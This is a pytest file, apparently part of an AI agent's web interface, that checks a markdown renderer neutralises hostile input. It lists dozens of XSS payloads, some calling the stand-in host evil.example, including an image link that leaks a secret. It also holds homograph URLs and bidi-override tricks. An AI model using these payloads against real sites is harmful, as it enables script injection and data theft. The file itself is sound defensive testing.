"""Markdown of a model's making, as HTML: shown as meant, and harmless."""

from __future__ import annotations

import re

import pytest

from trio_agent.web.render import MAX_RENDERED_CHARS, render

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input>",
    "<object data=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example "onerror=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    '```html" onload="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</code></pre><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w-]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>")
HARMLESS = {
    *("p", "a", "em", "strong", "code", "pre", "span", "div", "br", "hr", "ul", "ol", "li", "blockquote", "s", "del"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTE = re.compile(r"([\w-]+)\s*=\s*\"([^\"]*)\"")


@pytest.mark.parametrize("text", SCRIPTS, ids=ascii)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "# {}", "**{}**"])
def test_what_is_rendered_runs_nothing_and_loads_nothing(frame: str, text: str) -> None:
    for name, attributes in TAG.findall(render(frame.format(text))):
        assert name.lower() in HARMLESS, name
        for attribute, value in ATTRIBUTE.findall(attributes):
            assert attribute in {"class", "href", "title", "rel", "align", "start", "dir"}, attribute
            assert attribute != "href" or re.match(r"(?:https?://|mailto:|[^:]*$)", value), value


def test_links_tell_the_other_side_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://a.example)")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<https://xn--pple-43d.com/login>", "https://xn--pple-43d.com/login"),
        ("<https://\u0430pple.com/k\u00e4se>", "https://xn--pple-43d.com/k\u00e4se"),
        ("https://\u0430pple.com/", "https://xn--pple-43d.com/"),
        ("<HTTPS://me@\u0430pple.com:8000?q>", "HTTPS://me@xn--pple-43d.com:8000?q"),
        ("<https://a.example/%7Ex%20y>", "https://a.example/%7Ex%20y"),
        ("<https://a.example/\u202egpj>", "https://a.example/⟨U+202E⟩gpj"),
    ],
    ids=ascii,
)
def test_an_address_in_the_text_is_shown_as_it_is_written_and_its_host_as_the_network_knows_it(
    text: str, shown: str
) -> None:
    assert f">{shown}</a>" in render(text)


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see https://a.example/b_c_d*e?x=1#f.", "https://a.example/b_c_d*e?x=1#f"),
        ("(https://a.example/A_(b)), and", "https://a.example/A_(b)"),
        ("**http://a.example/**", "http://a.example/"),
        ("| x |\n|---|\n| https://a.example|", "https://a.example"),
        ("http://[::1]:8000/x]", "http://[::1]:8000/x"),
        ("看https://a.example/x。然后", "https://a.example/x"),
    ],
)
def test_a_bare_address_is_a_link_without_what_the_sentence_has_after_it(text: str, url: str) -> None:
    assert f'<a href="{url}" rel="noopener noreferrer nofollow">{url}</a>' in render(text)


@pytest.mark.parametrize("text", ["xhttp://a.example", "`http://a.example`", "https://", "ftp://a.example", "calc.py"])
def test_what_is_no_address_is_no_link(text: str) -> None:
    assert "<a" not in render(text)


def test_an_address_in_the_text_of_a_link_is_no_other_link() -> None:
    html = render("[https://a.example](https://b.example 'https://c.example')")
    assert html == '<p><a href="https://b.example" rel="noopener noreferrer nofollow">https://a.example</a></p>\n'


def test_an_image_is_a_link_to_it_that_loads_nothing() -> None:
    html = render("before ![a *b*](https://a.example/c.png 'd') after ![](http://a.example/)")
    assert 'before <a class="image" href="https://a.example/c.png" rel="noopener noreferrer nofollow">a b</a>' in html
    assert '<a class="image" href="http://a.example/" rel="noopener noreferrer nofollow"></a>' in html


def test_an_image_that_cannot_be_opened_says_what_it_is() -> None:
    assert '<span class="image" title="data:image/png">a</span>' in render("![a](data:image/png;base64,AAAA)")
    assert '<span class="image" title="b/c.svg">a</span>' in render("![a](b/c.svg)")
    badge = render("[![ok](https://a.example/b.svg)](https://b.example)")
    assert badge.count("<a") == 1
    assert '<span class="image" title="https://a.example/b.svg">ok</span></a>' in badge


def test_what_turns_or_hides_a_text_is_told_wherever_it_stands() -> None:
    html = render(
        "a\u202eb &#x202e; *\u2066c* ![\u2067](x) `\u200e`\n\n```py\nx = '\u202e'\n```\n\n    \u202d\n\n# \u2069"
    )
    assert not re.search("[\u200e\u202a-\u202e\u2066-\u2069]", html)
    assert html.count("⟨U+202E⟩") == 3
    for sign in ("⟨U+2066⟩", "⟨U+2067⟩", "⟨U+200E⟩", "⟨U+202D⟩", "⟨U+2069⟩"):
        assert sign in html


def test_a_long_text_tells_them_too() -> None:
    assert "a⟨U+202E⟩" in render("a\u202e" * MAX_RENDERED_CHARS)


def test_lists_to_be_ticked_off_have_boxes() -> None:
    html = render("- [ ] a\n- [x] **b**\n- [X] c\n- [y] d\n- [x]e")
    items = ('class="task">☐ a', 'class="task">☑ <strong>b</strong>', 'class="task">☑ c', ">[y] d", ">[x]e")
    assert all(f"<li{' ' if item[0] == 'c' else ''}{item}</li>" in html for item in items)


@pytest.mark.parametrize(
    "piece", ["http://", ":", "http://a)", "https://a.example ", "![a](http://b) ", "[a](http://b) "]
)
def test_addresses_without_end_are_rendered_in_time(piece: str) -> None:
    assert render(piece * (MAX_RENDERED_CHARS // len(piece)))


def test_code_is_highlighted_by_classes_alone() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_code_of_an_unknown_language_is_shown_as_it_is() -> None:
    assert "x &lt; y" in render("```nolanguage\nx < y\n```")


def test_tables_and_strike_through_are_known() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")
    assert "<s>x</s>" in render("~~x~~")


def test_the_columns_of_a_table_stand_on_the_side_they_are_given() -> None:
    html = render("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<th>a</th>\n<th align="center">b</th>\n<th align="right">c</th>' in html
    assert '<td>1</td>\n<td align="center">2</td>\n<td align="right">3</td>' in html


def test_a_text_too_long_to_be_rendered_is_shown_plain() -> None:
    text = "**x** <b>" * (MAX_RENDERED_CHARS // 9 + 1)
    html = render(text)
    assert html.startswith('<div class="plain">**x** &lt;b&gt;')
    assert "<strong>" not in html


def test_what_was_written_for_a_terminal_reads_without_it() -> None:
    assert render("\x1b[31mred\x1b[0m \x1b]0;title\x07and\x9b2K plain\r\nnext") == "<p>red and plain\nnext</p>\n"
